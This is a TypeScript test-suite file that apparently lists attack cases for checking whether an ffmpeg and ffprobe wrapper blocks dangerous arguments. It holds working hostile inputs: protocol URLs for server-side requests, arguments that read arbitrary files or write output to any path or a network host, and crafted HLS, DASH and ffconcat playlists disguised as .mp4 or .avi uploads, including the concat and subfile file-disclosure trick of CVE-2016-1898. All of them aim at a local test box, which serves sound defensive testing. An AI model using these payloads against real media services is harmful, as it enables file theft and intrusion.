import { write } from './attacks-files.ts';
import { type Attack, type Box, by, file, secretText, template, within } from './attacks-kind.ts';

const here = (box: Box) => `127.0.0.1:${box.port}`;

const inputs: readonly (readonly [string, (box: Box) => string])[] = [
  ['http:', (box) => `http://${here(box)}/x.mp4`],
  ['tcp:', (box) => `tcp://${here(box)}`],
  ['ftp:', (box) => `ftp://${here(box)}/x`],
  ['gopher:', (box) => `gopher://${here(box)}/x`],
  ['rtmp:', (box) => `rtmp://${here(box)}/x/y`],
  ['rtsp:', (box) => `rtsp://${here(box)}/x`],
  ['tls:', (box) => `tls://${here(box)}`],
  ['https:', (box) => `https://${here(box)}/x`],
  ['mmst:', (box) => `mmst://${here(box)}/x`],
  ['icecast:', (box) => `icecast://u:p@${here(box)}/x`],
  ['crypto: around another', (box) => `crypto+http://${here(box)}/x`],
  ['async: around another', (box) => `async:http://${here(box)}/x`],
  ['cache: around another', (box) => `cache:http://${here(box)}/x`],
  ['concat: of two', (box) => `concat:http://${here(box)}/x|http://${here(box)}/y`],
  ['subfile: around another', (box) => `subfile,,start,0,end,9,,:http://${here(box)}/x`],
];

const reading: readonly Attack[] = inputs.map(
  ([because, input]) => by('ffmpeg', `the input: ${because}`)`-y -i ${input} out.wav`,
);

const writing: readonly Attack[] = [
  by('ffmpeg', 'raw bytes of any file')`-v error -f u8 -ar 8000 -ac 1 -i ${(box) => box.secret} -f u8 -`,
  by(
    'ffmpeg',
    'raw bytes by concat:',
  )`-v error -f u8 -ar 8000 -ac 1 -i ${(box) => `concat:${box.secret}`} -f u8 -`,
  by(
    'ffmpeg',
    'raw bytes by subfile:',
  )`-v error -f u8 -ar 8000 -ac 1 -i ${(box) => `subfile,,start,0,end,15,,:${box.secret}`} -f u8 -`,
  by('ffmpeg', 'an output anywhere')`-y -f u8 -ar 8000 -ac 1 -i a.txt ${(box) => `${box.canary}.wav`}`,
  by(
    'ffmpeg',
    'an output by an option',
  )`-y -f u8 -ar 8000 -ac 1 -i a.txt ${(box) => ['-f', 'wav', box.canary]} out.wav`,
  by(
    'ffmpeg',
    'tee: of outputs',
  )`-y -f u8 -ar 8000 -ac 1 -i a.txt -map 0 -f tee ${(box) => `[f=wav]${box.canary}`}`,
  by(
    'ffmpeg',
    'an output to a host',
  )`-y -f u8 -ar 8000 -ac 1 -i a.txt -f wav ${(box) => `tcp://${here(box)}`}`,
  by(
    'ffmpeg',
    'a log anywhere, by -progress',
  )`-y -f u8 -ar 8000 -ac 1 -i a.txt ${(box) => ['-progress', box.canary]} out.wav`,
  by(
    'ffmpeg',
    'progress to a host',
  )`-y -f u8 -ar 8000 -ac 1 -i a.txt ${(box) => ['-progress', `http://${here(box)}/x`]} out.wav`,
  by(
    'ffmpeg',
    '-attach of any file',
  )`-y -f u8 -ar 8000 -ac 1 -i a.txt ${(box) => ['-attach', box.secret, '-metadata:s:t', 'mimetype=text/plain']} out.mka`,
  by(
    'ffmpeg',
    'metadata of any file',
  )`-y -f u8 -ar 8000 -ac 1 -i a.txt ${(box) => ['-f', 'ffmetadata', '-i', box.secret]} out.wav`,
];

/** A playlist or script, under a name that uploads have. */
function playlist(because: string, name: string, type: string, content: (box: Box) => string): Attack {
  return within('ffmpeg', `contents of ${name}: ${because}`, {
    prepare: (box) => write(box, name, content(box)),
    ours: template`-v error -y ${file(name, type)} ${file('out.wav')}`,
  })`-v error -y -protocol_whitelist file,http,tcp,crypto,data -i ${file(name, type)} ${file('out.wav')}`;
}

const hls = (line: (box: Box) => string) => (box: Box) =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${line(box)}\n#EXT-X-ENDLIST\n`;
const segment = hls((box) => `http://${here(box)}/x.ts`);

const playlists: readonly (readonly [string, string, (box: Box) => string])[] = [
  ['HLS with a URL, CVE-2016-1897', 'm3u8', segment],
  [
    'HLS with concat:, CVE-2016-1898',
    'm3u8',
    hls((box) => `concat:http://${here(box)}/x.m3u8|subfile,,start,0,end,99,,:${box.secret}`),
  ],
  [
    'HLS with a key from a URL',
    'm3u8',
    (box) =>
      segment(box).replace('#EXTINF', `#EXT-X-KEY:METHOD=AES-128,URI="http://${here(box)}/k"\n#EXTINF`),
  ],
  [
    'HLS with a map from a URL',
    'm3u8',
    (box) => segment(box).replace('#EXTINF', `#EXT-X-MAP:URI="http://${here(box)}/m.mp4"\n#EXTINF`),
  ],
  [
    'a master of HLS',
    'm3u8',
    (box) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://${here(box)}/x.m3u8\n`,
  ],
  ['ffconcat with a URL', 'ffconcat', (box) => `ffconcat version 1.0\nfile http://${here(box)}/x.ts\n`],
  [
    'DASH with a URL',
    'mpd',
    (box) =>
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet contentType="audio" mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>http://${here(box)}/x.mp4</BaseURL><SegmentBase indexRange="0-9"/></Representation></AdaptationSet></Period></MPD>`,
  ],
  ['text of the secret', 'txt', () => `${secretText}\n`],
];

const files: readonly Attack[] = playlists.flatMap(([because, extension, content]) => [
  playlist(because, `evil.${extension}`, 'video/mp4', content),
  playlist(`${because}, as .mp4`, 'evil.mp4', 'video/mp4', content),
  playlist(`${because}, as .avi`, 'evil.avi', 'video/x-msvideo', content),
]);

const probed: readonly Attack[] = playlists.slice(0, 5).map(
  ([because, extension, content]) =>
    within('ffprobe', `contents: ${because}`, {
      prepare: (box) => write(box, `evil.${extension}`, content(box)),
      ours: template`-v error ${file(`evil.${extension}`, 'video/webm')}`,
    })`-v error -protocol_whitelist file,http,tcp,crypto,data ${file(`evil.${extension}`, 'video/webm')}`,
);

/** For the long tests: FFmpeg is a large package. */
export const mediaAttacks: readonly Attack[] = [...reading, ...writing, ...files, ...probed];
